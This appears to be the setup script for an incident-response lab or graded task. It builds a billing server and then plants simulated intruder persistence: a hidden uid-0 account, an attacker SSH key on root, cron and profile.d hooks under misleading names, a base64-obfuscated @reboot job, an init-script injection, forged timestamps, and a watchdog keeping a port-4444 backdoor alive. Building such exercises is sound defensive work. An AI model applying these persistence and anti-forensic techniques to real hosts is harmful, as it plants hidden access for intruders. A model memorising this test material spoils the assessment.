#!/usr/bin/env bash
# app01 as the on-call finds it: the billing API serving customers, and an intruder who came
# in on Nov 28 through deploy's weak password (see files/auth.log) and dug in five ways: a
# uid-0 account, an SSH key on root, a cron.d file, a root @reboot job, a profile.d hook and a
# line in billing-api's init script, all (re)starting a watchdog that respawns a backdoor
# listening on port 4444 and rewrites its cron file when it goes.
set -euo pipefail
trap 'echo "setup.sh failed at line $LINENO: $BASH_COMMAND" >&2' ERR
F=$OPSLAB_FILES
D=/var/tmp/.ICE-unix/.x
ALICE_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDwU2HIQQi4KDxT9GX7iqLswEnqtI0mqZlVa44HSf7rD alice@acme-laptop'
CI_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKyEdSoWYCdkhfUSQEA784Hh41FvArIhnmdTc00WNTTa deploy@ci.acme.example'
EVIL_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGAQ3mDjlg3nSisLCO9lILP1uAQZGdglJgUFPHpxHBWF backup@db02'

# --- the host before the attack --------------------------------------------------------
useradd -m -s /bin/bash -u 1000 -G sudo alice
useradd -m -s /bin/bash -u 1001 -G sudo deploy
usermod -p '$6$Kp2x9QvTr7mWq1Zs$iIqoxnjti/8X2HGd/Yg9K/PMNQuKnqFXmLrA4SfjoPxhDDKi8y4FattfXgde660tiSOtL0zuBRqCIo4SNzm8Y.' deploy
useradd -r -s /usr/sbin/nologin -d /opt/billing billing
install -d -m 0700 /root/.ssh
install -d -m 0700 -o deploy -g deploy /home/deploy/.ssh
printf '%s\n' "$ALICE_KEY" > /root/.ssh/authorized_keys
printf '%s\n' "$CI_KEY" > /home/deploy/.ssh/authorized_keys
chown deploy:deploy /home/deploy/.ssh/authorized_keys
chmod 0600 /root/.ssh/authorized_keys /home/deploy/.ssh/authorized_keys

install -d /opt/billing
install -m 0644 "$F/app.py" /opt/billing/app.py
install -m 0755 "$F/billing-api.init" /etc/init.d/billing-api
cat > /usr/local/sbin/billing-backup <<'SH'
#!/bin/sh
# Nightly copy of the billing data to the backup share.
set -eu
tar -C /opt/billing -czf /var/backups/billing-$(date +%F).tar.gz .
find /var/backups -name 'billing-*.tar.gz' -mtime +14 -delete
SH
chmod 0755 /usr/local/sbin/billing-backup
printf '# m h dom mon dow command\n30 3 * * * /usr/local/sbin/billing-backup >/var/log/billing/backup.log 2>&1\n' | crontab -
cat > /etc/cron.d/billing-smoke <<'CRON'
# Morning smoke test of the billing API before finance starts.
0 6 * * * billing /usr/bin/curl -fsS -o /dev/null http://127.0.0.1:8080/health
CRON
printf '# Corporate proxy for outbound package downloads\nexport no_proxy=localhost,127.0.0.1,.acme.internal\n' > /etc/profile.d/acme-proxy.sh

# --- what the intruder did -------------------------------------------------------------
useradd -o -u 0 -g 0 -M -d /var/lib/systemd-netd -s /bin/bash systemd-netd
usermod -p '$6$aX0rB7nLq2VwE5Ty$eRO/MVQBQvxzFv9GKBhfWP85ePo9mPFjfGE4b9iJ6LwbKpGos0yOzGG/ljpe.Mn.gPXxyPOGMxJsk7302w9IB1' systemd-netd
printf '%s\n' "$EVIL_KEY" >> /root/.ssh/authorized_keys
install -d -m 0755 /var/tmp/.ICE-unix "$D"
install -m 0755 "$F/kworkerd" "$D/kworkerd"
install -m 0755 "$F/watchdog.sh" "$D/watchdog.sh"
printf 'SHELL=/bin/sh\n*/5 * * * * root %s/watchdog.sh >/dev/null 2>&1\n' "$D" > /etc/cron.d/apt-compat-check
(crontab -l; echo '@reboot /bin/sh -c "$(echo L3Zhci90bXAvLklDRS11bml4Ly54L3dhdGNoZG9nLnNo | base64 -d)"') | crontab -
cat > /etc/profile.d/locale-fix.sh <<'SH'
# Fix locale warnings on SSH logins (OPS-1182)
export LC_ALL=C.UTF-8
(pgrep -f 'watchdog.sh loop' >/dev/null 2>&1 || /var/tmp/.ICE-unix/.x/watchdog.sh >/dev/null 2>&1 &) 2>/dev/null
SH
sed -i 's|^    echo "Starting billing-api"$|&\n    ( /var/tmp/.ICE-unix/.x/watchdog.sh \& ) >/dev/null 2>\&1|' /etc/init.d/billing-api
grep -q ICE-unix /etc/init.d/billing-api

install -m 0640 -g adm "$F/auth.log" /var/log/auth.log
touch -d '2025-11-28 02:19:40' "$D/kworkerd" "$D/watchdog.sh" "$D" /var/tmp/.ICE-unix
touch -d '2025-11-28 02:20:15' /etc/cron.d/apt-compat-check /etc/profile.d/locale-fix.sh /etc/init.d/billing-api
touch -d '2025-11-28 02:25:02' /root/.ssh/authorized_keys

# --- running ---------------------------------------------------------------------------
install -d -m 0755 /run/sshd
/usr/sbin/sshd
# Init scripts answer "failed" quietly (e.g. on a slow start); what counts is checked below:
# the backdoor and the API listening.
service cron start >/dev/null || echo "cron did not start cleanly" >&2
service billing-api start >/dev/null || echo "billing-api did not start cleanly" >&2   # also starts the watchdog
# The intrusion must be live before the candidate (or the grader) looks. On a busy host a
# start can be lost: every 5 s, start again what does not listen yet (up to 60 s in all).
listening() { ss -Hltn "sport = :$1" | grep -q .; }
for i in $(seq 600); do
    listening 4444 && listening 8080 && exit 0
    if [ $((i % 50)) -eq 0 ]; then
        listening 8080 || service billing-api start >/dev/null 2>&1 || true
        listening 4444 || "$D/watchdog.sh" || true
    fi
    sleep 0.1
done
{ echo "the backdoor or the billing API did not start listening within 60 s:"; ss -Hltnp; ps -eo pid,user,args; } >&2
exit 1
